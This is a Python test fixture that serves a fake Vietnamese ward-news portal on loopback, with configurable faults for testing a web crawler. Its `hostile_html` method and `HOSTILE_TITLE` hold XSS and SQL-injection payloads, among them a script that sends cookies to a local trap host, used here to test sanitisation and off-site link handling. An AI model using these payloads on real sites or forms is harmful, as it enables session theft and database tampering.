"""A small Liferay-style ward-news site on 127.0.0.1 that misbehaves on request.

Tests build a `FaultServer`, tell it which URL should fail and how, crawl it, then look at
what it saw::

    with FaultServer(articles=8) as site:
        site.fault(site.articles[0].path, "status", code=503, times=2)  # 503, 503, then fine
        site.fault(site.articles[1].path, "hang")                       # never answers
        ...crawl site.listing_url...
        assert len(site.hits(site.articles[0].path)) == 3

The pages use the stock Liferay 6.x asset-publisher markup (`.asset-abstract` rows,
`taglib-page-iterator` pager, `.asset-full-content` article view) that the `liferay`
profile reads. Every fault is served `times` times (None: for ever) and then the URL
recovers. Two "off-site" trap servers listen on 127.0.0.2 and 127.0.0.3: a crawler that
followed a redirect there would show up in their request logs.

Fault kinds (options in brackets):

- `status` [code, retry_after, body]: answer with that status (500, 502, 503, 429...).
- `hang`: read the request, never answer (until the server stops).
- `trickle` [chunk, interval]: the right page, a few bytes at a time.
- `short` [fraction]: promise the whole page in Content-Length, send a part, hang up.
- `redirect_loop` [mode]: `cycle` (P -> P?loop=1 -> P) or `chain` (P?hop=1, P?hop=2, ...).
- `redirect` [location]: one redirect to any URL (off-site hosts, unresolvable names).
- `charset` [encoding, header, meta]: the page in that encoding, declared (or not, or
  wrongly) in the Content-Type header and in a `<meta>` tag.
- `binary` [data, content_type]: bytes that are not text, served as text/html.
- `huge` [size]: a well-formed page of `size` bytes (30 MB by default).
- `malformed`: unclosed tags, nested tables and a second `<html>` around the article.
- `hostile`: title and body carry `<script>`, event handlers, `javascript:` links and
  SQL-looking text.
- `soft404`: the portal's "Trang bạn yêu cầu không tồn tại" page, with status 200.
- `empty`: status 200, no body.
- `truncated` [fraction]: status 200, a well-delimited body cut off mid-page.
- `page` [body, content_type, status]: any bytes at all.

`chaos(every=5, kinds=[...])` makes every n-th request fault instead (the soak test), and
`injected` lists what it did. Helpers for the tests: `crawl_site` (a `scrapy crawl`
process over the site), `snapshot` (a copy of an archive between crawls), `warc_records`
(every record of a WARC directory), `DatasetteProcess` (a real `datasette serve`).
"""

# ruff: noqa: E501 - the page templates keep the portal's markup one element per line.
from __future__ import annotations

import html
import re
import socket
import threading
import time
import unicodedata
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from tests.conftest import free_port as _free_port

__all__ = [
    "Article",
    "DatasetteProcess",
    "ERROR_PAGE_TEXT",
    "Fault",
    "FaultServer",
    "HOSTILE_TITLE",
    "Hit",
    "crawl_site",
    "encode_cp1258",
    "snapshot",
    "warc_records",
]

ERROR_PAGE_TEXT = "Trang bạn yêu cầu không tồn tại"
SECTION = "/web/guest/tin-phuong"
PORTLET = "101_INSTANCE_wArDnEwS01"
CATEGORY = "Tin hoạt động các phường"
HOSTILE_TITLE = "<script>alert('tieu-de')</script>Phường Minh Khai '; DROP TABLE articles; --"
FAULT_KINDS = frozenset(
    "status hang trickle short redirect_loop redirect charset binary huge malformed hostile "
    "soft404 empty truncated page".split()
)

_WARDS = [
    "Bách Khoa",
    "Bạch Đằng",
    "Bạch Mai",
    "Cầu Dền",
    "Đống Mác",
    "Đồng Nhân",
    "Đồng Tâm",
    "Lê Đại Hành",
    "Minh Khai",
    "Ngô Thì Nhậm",
    "Nguyễn Du",
    "Phạm Đình Hổ",
    "Phố Huế",
    "Quỳnh Lôi",
    "Quỳnh Mai",
    "Thanh Lương",
    "Thanh Nhàn",
    "Trương Định",
    "Vĩnh Tuy",
]
_TOPICS = [
    ("tổng kết phong trào thi đua năm 2017", "Hội nghị đánh giá kết quả các phong trào thi đua"),
    ("ra quân tổng vệ sinh môi trường", "Đông đảo đoàn viên, hội viên và nhân dân tham gia"),
    ("tập huấn công tác phòng cháy chữa cháy", "Lực lượng phòng cháy chữa cháy cơ sở được hướng"),
    ("trao quà Tết cho các gia đình chính sách", "Các hộ gia đình chính sách, hộ nghèo đã nhận"),
    ("sơ kết 6 tháng thực hiện Nghị quyết", "Báo cáo nêu rõ những kết quả nổi bật trong"),
    ("ra mắt mô hình tổ dân phố văn minh", "Mô hình nhằm nâng cao ý thức của người dân về"),
    ("tổ chức ngày hội Đại đoàn kết toàn dân tộc", "Ngày hội là dịp để nhân dân các tổ dân"),
    ("tiếp xúc cử tri trước kỳ họp", "Cử tri đã nêu nhiều ý kiến, kiến nghị liên quan đến"),
]
_AUTHORS = ["Minh Thuận", "Thu Hà", "Hồng Nhung", "Quang Huy", "Ngọc Lan", "Văn Tùng"]


def _slug(text: str) -> str:
    """'Phường Bách Khoa tổng kết' -> 'phuong-bach-khoa-tong-ket'."""
    text = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    text = "".join(c for c in text if unicodedata.category(c) != "Mn").lower()
    return re.sub(r"[^a-z0-9]+", "-", text).strip("-")


_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def encode_cp1258(text: str) -> bytes:
    """Vietnamese text as windows-1258 writes it: base letters precomposed, tones combining."""
    out = []
    for char in text:
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        tones = "".join(m for m in parts if m in _TONES)
        base = unicodedata.normalize("NFC", "".join(m for m in parts if m not in _TONES))
        out.append((base + tones).encode("cp1258", "xmlcharrefreplace"))
    return b"".join(out)


@dataclass
class Article:
    """One article of the site."""

    key: int
    title: str
    paragraphs: list[str]
    published: str  # "Ngày đăng 03/01/2018 | 05:01"
    byline: str
    path: str = ""
    url: str = ""

    @property
    def body_text(self) -> str:
        return "\n\n".join(self.paragraphs)


@dataclass
class Fault:
    """A misbehaviour of one URL: `kind`, how many more times (None: always), options."""

    kind: str
    times: int | None = None
    options: dict[str, Any] = field(default_factory=dict)
    served: int = 0


@dataclass
class Hit:
    """One request the server saw."""

    path: str  # path and query, as requested
    at: float  # time.monotonic()
    method: str
    host: str
    headers: dict[str, str]
    fault: str | None  # the fault kind served, None for the normal page


def _make_articles(count: int) -> list[Article]:
    articles = []
    for i in range(count):
        ward = _WARDS[i % len(_WARDS)]
        topic, opening = _TOPICS[i % len(_TOPICS)]
        title = f"Phường {ward} {topic}"
        if i >= len(_TOPICS):
            title += f" (đợt {i // len(_TOPICS) + 1})"
        day, month = 1 + (i * 3) % 27, 1 + (i // 9) % 12
        author = _AUTHORS[i % len(_AUTHORS)]
        paragraphs = [
            f"Sáng ngày {day:02d}/{month:02d}/2018, UBND phường {ward} tổ chức {topic}. "
            f"{opening} địa bàn phường trong thời gian qua.",
            f"Tới dự có đồng chí đại diện lãnh đạo Quận ủy, UBND quận Hai Bà Trưng cùng "
            f"các đồng chí trong Đảng ủy, HĐND, UBND, UBMTTQ phường {ward} và các tổ dân phố.",
            "Phát biểu tại buổi lễ, đồng chí Chủ tịch UBND phường đề nghị các tổ dân phố, "
            "các đoàn thể tiếp tục phát huy những kết quả đạt được, tuyên truyền sâu rộng tới "
            "từng hộ gia đình để mọi người dân cùng hưởng ứng và thực hiện.",
            f"Dịp này, UBND phường {ward} đã khen thưởng {5 + i} tập thể và {12 + i} cá nhân "
            "có thành tích xuất sắc. Bài và ảnh do cán bộ văn phòng phường cung cấp.",
        ]
        articles.append(
            Article(
                key=2225800 + i,
                title=title,
                paragraphs=paragraphs,
                published=f"Ngày đăng {day:02d}/{month:02d}/2018 | {7 + i % 10:02d}:{(i * 7) % 60:02d}",
                byline=f"{author} - UBND phường {ward}",
            )
        )
    return articles


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib name
        pass  # quiet: tests read the request log instead

    def do_GET(self) -> None:  # noqa: N802 - stdlib name
        self.server.owner._handle(self)

    def do_HEAD(self) -> None:  # noqa: N802 - stdlib name
        self.server.owner._handle(self)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 64

    def __init__(self, address: tuple[str, int], owner: Any):
        self.owner = owner
        super().__init__(address, _Handler)


class _Trap:
    """An off-site host: it only records who came, answering every request with a page."""

    def __init__(self, host: str):
        self.host = host
        self.hits: list[Hit] = []
        self.stopping = threading.Event()
        self.httpd = _Server((host, 0), self)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def _handle(self, handler: _Handler) -> None:
        self.hits.append(
            Hit(
                handler.path,
                time.monotonic(),
                handler.command,
                handler.headers.get("Host", ""),
                dict(handler.headers),
                None,
            )
        )
        body = b"<html><head><title>off-site</title></head><body>off-site</body></html>"
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)


class FaultServer:
    """The misbehaving ward-news site (see the module docstring); a context manager."""

    def __init__(
        self,
        articles: int = 8,
        per_page: int = 6,
        host: str = "127.0.0.1",
        delay: float = 0.0,
        paths: dict[int, str] | None = None,
    ):
        """`paths`: article index -> path, for articles whose address is not Liferay's
        usual `/-/view_content/<id>-<slug>.html`."""
        self.host = host
        self.per_page = per_page
        self.delay = delay  # seconds every answer waits first (to make a crawl last)
        self.articles = _make_articles(articles)
        self.hidden: set[str] = set()  # article paths left out of the listing
        self.faults: dict[str, list[Fault]] = {}
        self.robots = "User-agent: *\nDisallow: /c/portal/login\n"
        self._hits: list[Hit] = []
        self._lock = threading.Lock()
        self.stopping = threading.Event()
        self.httpd = _Server((host, 0), self)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True)
        self.traps = {h: _Trap(h) for h in ("127.0.0.2", "127.0.0.3")}
        for article in self.articles:
            article.path = (
                f"{SECTION}/-/view_content/{article.key}-"
                f"{_slug(article.title)[:60].rstrip('-')}.html"
            )
        for index, path in (paths or {}).items():
            self.articles[index].path = path
        for article in self.articles:
            article.url = self.base_url + article.path
        self._huge: dict[int, bytes] = {}
        # Chaos mode (see chaos()): every n-th request faults.
        self._chaos: tuple[int, list[tuple[str, dict[str, Any]]], int, set[str]] | None = None
        self._chaos_seen = 0
        self._chaos_per_path: dict[str, int] = {}
        self.injected: list[tuple[str, str, dict[str, Any]]] = []  # (path, kind, options)

    # --- life cycle -------------------------------------------------------------------
    def start(self) -> FaultServer:
        """Serve in background threads (the traps too)."""
        self.thread.start()
        for trap in self.traps.values():
            trap.thread.start()
        return self

    def stop(self) -> None:
        """Stop serving; hanging and trickling answers give up."""
        self.stopping.set()
        for server in [self.httpd, *(t.httpd for t in self.traps.values())]:
            server.shutdown()
            server.server_close()

    def __enter__(self) -> FaultServer:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    # --- addresses --------------------------------------------------------------------
    @property
    def base_url(self) -> str:
        return f"http://{self.host}:{self.port}"

    @property
    def listing_url(self) -> str:
        return self.base_url + SECTION

    def listing_path(self, page: int) -> str:
        """Path of listing page n (1-based), Liferay-style `_<portlet>_cur=n`."""
        return SECTION if page == 1 else f"{SECTION}?p_p_id={PORTLET}&_{PORTLET}_cur={page}"

    def url(self, path: str) -> str:
        return self.base_url + path

    def offsite_url(self, host: str, path: str = "/") -> str:
        """A URL on one of the trap hosts (127.0.0.2, 127.0.0.3)."""
        return self.traps[host].base_url + path

    def article(self, path_or_index: str | int) -> Article:
        if isinstance(path_or_index, int):
            return self.articles[path_or_index]
        return next(a for a in self.articles if a.path == path_or_index)

    # --- configuration ----------------------------------------------------------------
    def fault(self, path: str, kind: str, times: int | None = None, **options: Any) -> Fault:
        """Make `path` (path and query) misbehave `times` times (None: always)."""
        if kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault {kind!r}")
        fault = Fault(kind, times, options)
        with self._lock:
            self.faults.setdefault(path, []).append(fault)
            if kind == "redirect_loop":  # the loop's other URLs (path?loop=1, path?hop=n)
                self.faults.setdefault(urlsplit(path).path + "?*", []).append(fault)
        return fault

    def chaos(
        self,
        every: int,
        kinds: list[tuple[str, dict[str, Any]]],
        max_per_path: int = 2,
        spare: tuple[str, ...] = ("/robots.txt",),
    ) -> None:
        """Make every `every`-th request fault, with the next of `kinds` in turn, but no
        path more than `max_per_path` times (so retries always get through in the end).
        What was injected is listed in `injected`."""
        self._chaos = (every, list(kinds), max_per_path, set(spare))

    def clear(self, path: str | None = None) -> None:
        """Forget the faults of one path (all paths when None)."""
        with self._lock:
            if path is None:
                self.faults.clear()
            else:
                self.faults.pop(path, None)

    # --- the request log --------------------------------------------------------------
    @property
    def log(self) -> list[Hit]:
        with self._lock:
            return list(self._hits)

    def hits(self, path: str | None = None, prefix: bool = False) -> list[Hit]:
        """Requests for `path` (exactly, or every path starting with it), in order."""
        hits = self.log
        if path is None:
            return hits
        return [h for h in hits if (h.path.startswith(path) if prefix else h.path == path)]

    def reset_log(self) -> None:
        with self._lock:
            self._hits.clear()
        for trap in self.traps.values():
            trap.hits.clear()

    def offsite_hits(self) -> list[Hit]:
        """Every request any trap host received."""
        return [h for t in self.traps.values() for h in t.hits]

    # --- pages ------------------------------------------------------------------------
    def _head(self, title: str, canonical: str, meta_charset: str | None = "UTF-8") -> str:
        meta = (
            f'<meta content="text/html; charset={meta_charset}" http-equiv="content-type" />'
            if meta_charset
            else ""
        )
        return f"""<!DOCTYPE html>
<html class="aui ltr" dir="ltr" lang="vi-VN">
<head>
	<title>{html.escape(title)} - Cổng thông tin điện tử quận Hai Bà Trưng</title>
	{meta}
	<link href="{canonical}" rel="canonical" />
	<link class="lfr-css-file" href="/html/css/main.css?browserId=other&amp;t=1514190125000" rel="stylesheet" type="text/css" />
	<script type="text/javascript">var Liferay = {{ ThemeDisplay: {{ getLanguageId: function() {{ return "vi_VN"; }} }} }};</script>
</head>
<body class="yui3-skin-sam controls-visible signed-out public-page">
<div id="wrapper"><header id="banner"><h1 class="site-title">Cổng thông tin điện tử quận Hai Bà Trưng</h1>
<nav id="navigation"><ul><li><a href="/web/guest/trang-chu">Trang chủ</a></li><li class="selected"><a href="{SECTION}">{CATEGORY}</a></li></ul></nav></header>
<div id="content"><div class="portlet-layout row-fluid" id="main-content" role="main">"""

    _FOOT = """</div></div>
<footer id="footer"><p>Cơ quan chủ quản: Ủy ban nhân dân quận Hai Bà Trưng. Địa chỉ: 30 Lê Đại Hành, Hà Nội.</p></footer>
</div></body>
</html>
"""

    def listing_html(self, page: int) -> str:
        """One page of the section's asset publisher."""
        shown = [a for a in self.articles if a.path not in self.hidden]
        pages = max(1, -(-len(shown) // self.per_page))
        rows = []
        for a in shown[(page - 1) * self.per_page : page * self.per_page]:
            date = a.published.split(" ", 2)[2].split(" |")[0]
            rows.append(f"""
<div class="asset-abstract">
	<h3 class="asset-title"><a href="{a.path}">{html.escape(a.title)}</a></h3>
	<div class="asset-metadata"><span class="metadata-entry metadata-publish-date">{date}</span></div>
	<div class="asset-summary">{html.escape(a.paragraphs[0][:160])}...</div>
	<div class="asset-more"><a href="{a.path}">Xem tiếp <span class="hide-accessible">về {html.escape(a.title)}</span></a></div>
</div>""")
        links = []
        if page > 1:
            links.append(
                f'<a class="previous" href="{html.escape(self.listing_path(page - 1))}">Trước</a>'
            )
        if page < pages:
            links.append(
                f'<a class="next" href="{html.escape(self.listing_path(page + 1))}">Tiếp</a>'
            )
        body = f"""
<div class="portlet-boundary portlet-boundary_101_ portlet-asset-publisher" id="p_p_id_{PORTLET}_">
<section class="portlet"><header class="portlet-topper"><h1 class="portlet-title"><span class="portlet-title-text">{CATEGORY}</span></h1></header>
<div class="portlet-content"><div class="portlet-body">{"".join(rows)}
<div class="taglib-page-iterator"><div class="search-results">Trang {page} / {pages}</div>
<div class="search-pages"><div class="page-links">{" ".join(links)}</div></div></div>
</div></div></section></div>"""
        return self._head(CATEGORY, self.base_url + self.listing_path(page)) + body + self._FOOT

    def article_html(
        self,
        a: Article,
        title: str | None = None,
        body: str | None = None,
        meta_charset: str | None = "UTF-8",
    ) -> str:
        """An article in the asset publisher's full-content view."""
        title_html = html.escape(title if title is not None else a.title)
        if body is None:
            body = "\n".join(
                f'<p style="text-align: justify;">{html.escape(p)}</p>' for p in a.paragraphs
            )
        main = f"""
<div class="portlet-boundary portlet-boundary_101_ portlet-asset-publisher" id="p_p_id_{PORTLET}_">
<section class="portlet"><header class="portlet-topper"><h1 class="portlet-title"><span class="portlet-title-text">{CATEGORY}</span></h1></header>
<div class="portlet-content"><div class="portlet-body">
<div class="asset-full-content default-asset-publisher show-asset-title">
	<div class="taglib-header"><span class="header-back-to"><a href="{SECTION}">&laquo; Quay lại</a></span>
	<h3 class="header-title"><span>{title_html}</span></h3></div>
	<div class="asset-metadata"><span class="metadata-entry metadata-publish-date">{html.escape(a.published)}</span></div>
	<div class="asset-content" id="_{PORTLET}_{a.key}">
		<div class="journal-content-article">
{body}
		<p style="text-align: right;"><strong class="metadata-author">{html.escape(a.byline)}</strong></p>
		</div>
	</div>
	<div class="taglib-social-bookmarks"><a href="javascript:void(0)" onclick="share('fb')">Chia sẻ</a></div>
</div>
</div></div></section></div>"""
        return self._head(title or a.title, a.url, meta_charset) + main + self._FOOT

    def soft404_html(self) -> str:
        """The portal's own 'page not found', as Liferay serves it: status 200."""
        main = f"""
<div class="portlet-boundary portlet-boundary_101_ portlet-asset-publisher" id="p_p_id_{PORTLET}_">
<section class="portlet"><div class="portlet-content"><div class="portlet-body">
<div class="alert alert-error">{ERROR_PAGE_TEXT}</div>
<p>Xin lỗi, trang bạn yêu cầu không tồn tại hoặc đã bị gỡ bỏ. Vui lòng quay lại <a href="/web/guest/trang-chu">Trang chủ</a>.</p>
</div></div></section></div>"""
        return self._head(ERROR_PAGE_TEXT, self.base_url + SECTION) + main + self._FOOT

    def malformed_html(self, a: Article) -> str:
        """The article with unclosed tags, tables in tables and a second <html> in the body."""
        paras = a.paragraphs
        body = (
            f"<p><b>{html.escape(paras[0])}\n"  # <b> and <p> never closed
            "<table><tr><td><table><tr><td>"
            f"<p>{html.escape(paras[1])}<td><div>"  # nested tables, cells left open
            "</table>"
            f"<html><head><title>lạc</title></head><body><p>{html.escape(paras[2])}"
            f"<p>{html.escape(paras[3])}</div></span>"
        )
        page = self.article_html(a, body=body)
        return page.replace("</footer>", "</footer></div>", 1).replace("</html>", "", 1)

    def hostile_html(self, a: Article) -> str:
        """The article with script, event handlers, javascript: links and SQL in title and body."""
        body = (
            f"<p>{html.escape(a.paragraphs[0])} '; DROP TABLE articles; --</p>"
            "<script>document.location='http://127.0.0.2/steal?c='+document.cookie</script>"
            f'<p onmouseover="alert(1)">{html.escape(a.paragraphs[1])}</p>'
            '<p><img src="/documents/10180/anh1.jpg" onerror="alert(2)" alt="ảnh" />'
            '<a href="javascript:alert(3)">Xem chi tiết</a> '
            '<a href="JaVaScRiPt:alert(4)//x.pdf">Tải văn bản</a></p>'
            '<iframe src="http://127.0.0.3/"></iframe>'
            '<style>body{background:url("javascript:alert(5)")}</style>'
            f"<p>{html.escape(a.paragraphs[2])} 1' OR '1'='1</p>"
            f'<p><a href="/web/guest/trang-chu" onclick="alert(6)">{html.escape(a.paragraphs[3])}</a></p>'
        )
        return self.article_html(a, title=HOSTILE_TITLE, body=body)

    def huge_html(self, size: int) -> bytes:
        """A real, well-formed page of about `size` bytes (cached)."""
        if size not in self._huge:
            a = self.articles[0]
            para = f"<p>{html.escape(a.paragraphs[2])}</p>\n".encode()
            head, tail = self.article_html(a, body="@@BODY@@").encode().split(b"@@BODY@@")
            count = max(1, (size - len(head) - len(tail)) // len(para))
            self._huge[size] = head + para * count + tail
        return self._huge[size]

    # --- serving ----------------------------------------------------------------------
    def _page(self, path: str) -> tuple[int, str, bytes]:
        """The normal answer for a path: (status, content type, body)."""
        if path == "/robots.txt":
            return 200, "text/plain; charset=utf-8", self.robots.encode()
        split = urlsplit(path)
        if split.path == SECTION:
            match = re.search(rf"_{PORTLET}_cur=(\d+)", split.query)
            page = int(match.group(1)) if match else 1
            return 200, "text/html; charset=utf-8", self.listing_html(page).encode()
        for a in self.articles:
            if a.path == split.path:
                return 200, "text/html; charset=utf-8", self.article_html(a).encode()
        return 404, "text/html; charset=utf-8", self.soft404_html().encode()

    def _take_fault(self, path: str) -> Fault | None:
        with self._lock:
            for fault in self.faults.get(path, []):
                if fault.times is None or fault.served < fault.times:
                    fault.served += 1
                    return fault
        return None

    def _take_chaos(self, path: str) -> Fault | None:
        if self._chaos is None:
            return None
        every, kinds, max_per_path, spare = self._chaos
        with self._lock:
            self._chaos_seen += 1
            if (
                self._chaos_seen % every
                or path in spare
                or self._chaos_per_path.get(path, 0) >= max_per_path
            ):
                return None
            self._chaos_per_path[path] = self._chaos_per_path.get(path, 0) + 1
            kind, options = kinds[len(self.injected) % len(kinds)]
            self.injected.append((path, kind, options))
            return Fault(kind, 1, dict(options), served=1)

    def _handle(self, h: _Handler) -> None:
        path = h.path
        fault = self._take_fault(path)
        if fault is None and "?" in path and urlsplit(path).path != SECTION:
            fault = self._take_fault(urlsplit(path).path + "?*")  # faults on any query
        if fault is None:
            fault = self._take_chaos(path)
        with self._lock:
            self._hits.append(
                Hit(
                    path,
                    time.monotonic(),
                    h.command,
                    h.headers.get("Host", ""),
                    dict(h.headers),
                    fault.kind if fault else None,
                )
            )
        if self.delay:
            time.sleep(self.delay)
        try:
            if fault is None:
                self._send(h, *self._page(path))
            else:
                getattr(self, f"_fault_{fault.kind}")(h, path, **fault.options)
        except (BrokenPipeError, ConnectionResetError):
            h.close_connection = True

    def _send(
        self,
        h: _Handler,
        status: int,
        content_type: str | None,
        body: bytes,
        headers: dict[str, str] | None = None,
    ) -> None:
        h.send_response(status)
        if content_type is not None:
            h.send_header("Content-Type", content_type)
        h.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            h.send_header(name, value)
        h.end_headers()
        if h.command != "HEAD":
            h.wfile.write(body)

    def _article_for(self, path: str) -> Article:
        base = urlsplit(path).path
        return next((a for a in self.articles if a.path == base), self.articles[0])

    # One method per fault kind: _fault_<kind>(handler, path, **options).
    def _fault_status(
        self,
        h: _Handler,
        path: str,
        code: int = 503,
        retry_after: str | int | None = None,
        body: str | None = None,
    ) -> None:
        headers = {"Retry-After": str(retry_after)} if retry_after is not None else {}
        text = (
            body
            if body is not None
            else (
                f"<html><head><title>{code} Error</title></head><body><h1>HTTP Status {code}</h1>"
                "<p>Máy chủ đang bận, vui lòng thử lại sau.</p></body></html>"
            )
        )
        self._send(h, code, "text/html; charset=utf-8", text.encode(), headers)

    def _fault_hang(self, h: _Handler, path: str) -> None:
        self.stopping.wait()
        h.close_connection = True

    def _fault_trickle(
        self, h: _Handler, path: str, chunk: int = 256, interval: float = 0.25
    ) -> None:
        status, content_type, body = self._page(path)
        h.send_response(status)
        h.send_header("Content-Type", content_type)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        for start in range(0, len(body), chunk):
            if self.stopping.wait(interval):
                break
            h.wfile.write(body[start : start + chunk])
            h.wfile.flush()
        h.close_connection = True

    def _fault_short(self, h: _Handler, path: str, fraction: float = 0.4) -> None:
        status, content_type, body = self._page(path)
        h.send_response(status)
        h.send_header("Content-Type", content_type)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body[: int(len(body) * fraction)])
        h.wfile.flush()
        h.close_connection = True
        try:
            h.connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

    def _fault_redirect_loop(self, h: _Handler, path: str, mode: str = "cycle") -> None:
        split = urlsplit(path)
        if mode == "cycle":
            target = split.path if split.query else split.path + "?loop=1"
        else:
            match = re.search(r"hop=(\d+)", split.query)
            target = f"{split.path}?hop={int(match.group(1)) + 1 if match else 1}"
        self._send(h, 302, "text/html; charset=utf-8", b"", {"Location": target})

    def _fault_redirect(self, h: _Handler, path: str, location: str = "/", code: int = 302) -> None:
        self._send(h, code, "text/html; charset=utf-8", b"", {"Location": location})

    def _fault_charset(
        self,
        h: _Handler,
        path: str,
        encoding: str = "windows-1258",
        header: str | None = "same",
        meta: str | None = "same",
    ) -> None:
        a = self._article_for(path)
        meta_charset = encoding if meta == "same" else meta
        text = self.article_html(a, meta_charset=meta_charset)
        if encoding.lower().replace("-", "") in ("windows1258", "cp1258"):
            body = encode_cp1258(text)
        else:
            body = text.encode(encoding, "xmlcharrefreplace")
        declared = encoding if header == "same" else header
        content_type = f"text/html; charset={declared}" if declared else "text/html"
        self._send(h, 200, content_type, body)

    def _fault_binary(
        self,
        h: _Handler,
        path: str,
        data: bytes | None = None,
        content_type: str = "text/html; charset=utf-8",
    ) -> None:
        if data is None:
            # A PDF with no NUL byte near its start, as office exports often are.
            data = (
                b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\n"
                b"endobj\n2 0 obj\n<< /Length 4000 /Filter /FlateDecode >>\nstream\n"
                + bytes((i * 37 + 11) % 223 + 32 for i in range(4000))
                + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
            )
        self._send(h, 200, content_type, data)

    def _fault_huge(self, h: _Handler, path: str, size: int = 30 * 1024 * 1024) -> None:
        self._send(h, 200, "text/html; charset=utf-8", self.huge_html(size))

    def _fault_malformed(self, h: _Handler, path: str) -> None:
        a = self._article_for(path)
        self._send(h, 200, "text/html; charset=utf-8", self.malformed_html(a).encode())

    def _fault_hostile(self, h: _Handler, path: str) -> None:
        a = self._article_for(path)
        self._send(h, 200, "text/html; charset=utf-8", self.hostile_html(a).encode())

    def _fault_soft404(self, h: _Handler, path: str) -> None:
        self._send(h, 200, "text/html; charset=utf-8", self.soft404_html().encode())

    def _fault_empty(self, h: _Handler, path: str) -> None:
        self._send(h, 200, "text/html; charset=utf-8", b"")

    def _fault_truncated(self, h: _Handler, path: str, fraction: float | None = None) -> None:
        _, content_type, body = self._page(path)
        if fraction is None:
            # Mid-way through the third paragraph: more than half the text survives, so
            # only a check that knows the page ended early can tell.
            a = self._article_for(path)
            cut = body.find(html.escape(a.paragraphs[2]).encode()) + 60
        else:
            cut = int(len(body) * fraction)
        self._send(h, 200, content_type, body[:cut])

    def _fault_page(
        self,
        h: _Handler,
        path: str,
        body: bytes = b"",
        content_type: str | None = "text/html; charset=utf-8",
        status: int = 200,
    ) -> None:
        self._send(h, status, content_type, body)


# --- Helpers for the tests that crawl a FaultServer ----------------------------------------
def crawl_site(site: FaultServer, tmp: Any, *args: str, **kwargs: Any) -> Any:
    """`scrapy crawl ward_news` (a process) over the site's listing, as source `faultsite`."""
    from tests.conftest import run_crawl

    return run_crawl(
        tmp,
        "-a",
        f"url={site.listing_url}",
        "-a",
        "source=faultsite",
        "-a",
        "profile=liferay",
        *args,
        **kwargs,
    )


def warc_records(warc_dir: Any) -> list[dict[str, Any]]:
    """Every record of every WARC file in a directory: id, type, URI, status, where, size."""
    from pathlib import Path

    from warcio.archiveiterator import ArchiveIterator

    records = []
    for path in sorted(Path(warc_dir).glob("*.warc.gz")):
        with open(path, "rb") as f:
            iterator = ArchiveIterator(f)
            for record in iterator:
                headers = record.rec_headers
                status = None
                if record.rec_type == "response" and record.http_headers is not None:
                    status = int(record.http_headers.get_statuscode())
                size = len(record.raw_stream.read())
                records.append(
                    {
                        "file": path.name,
                        "offset": iterator.get_record_offset(),
                        "type": record.rec_type,
                        "id": headers.get_header("WARC-Record-ID"),
                        "uri": headers.get_header("WARC-Target-URI"),
                        "status": status,
                        "payload_digest": headers.get_header("WARC-Payload-Digest"),
                        "size": size,
                    }
                )
    return records


def snapshot(db: Any, copy: Any) -> Any:
    """A consistent copy of an SQLite archive (the backup API); returns the copy's path."""
    import sqlite3

    src, dst = sqlite3.connect(db), sqlite3.connect(copy)
    try:
        src.backup(dst)
    finally:
        src.close()
        dst.close()
    return copy


class DatasetteProcess:
    """`datasette serve DB -m metadata.yml` as a real process on a free loopback port."""

    def __init__(self, db: Any, *extra: str):
        self.db = db
        self.extra = extra
        self.port = _free_port()
        self.proc: Any = None

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self, timeout: float = 30.0) -> DatasetteProcess:
        """Start it and wait until it answers."""
        import subprocess
        import sys
        import urllib.request
        from pathlib import Path

        root = Path(__file__).resolve().parent.parent
        cmd = [
            sys.executable,
            "-m",
            "datasette",
            "serve",
            str(self.db),
            "-m",
            str(root / "metadata.yml"),
            "--host",
            "127.0.0.1",
            "--port",
            str(self.port),
            *self.extra,
        ]
        import tempfile

        # A file, not a pipe: a full pipe would block the server mid-test.
        self.errors = tempfile.TemporaryFile("w+")
        self.proc = subprocess.Popen(
            cmd, cwd=root, stdout=subprocess.DEVNULL, stderr=self.errors, text=True
        )
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"datasette exited: {self.stderr()[-2000:]}")
            try:
                with urllib.request.urlopen(self.base_url + "/-/versions.json", timeout=2):
                    return self
            except OSError:
                time.sleep(0.1)
        self.stop()
        raise RuntimeError("datasette did not start")

    def get(self, path: str, timeout: float = 30.0) -> tuple[int, str, str]:
        """(status, content type, text) of a GET."""
        import urllib.error
        import urllib.request

        try:
            with urllib.request.urlopen(self.base_url + path, timeout=timeout) as response:
                return (
                    response.status,
                    response.headers.get("Content-Type", ""),
                    response.read().decode("utf-8"),
                )
        except urllib.error.HTTPError as err:
            return err.code, err.headers.get("Content-Type", ""), err.read().decode("utf-8")

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(10)
            except Exception:
                self.proc.kill()
                self.proc.wait(10)

    def stderr(self) -> str:
        """What the server wrote to stderr so far."""
        self.errors.seek(0)
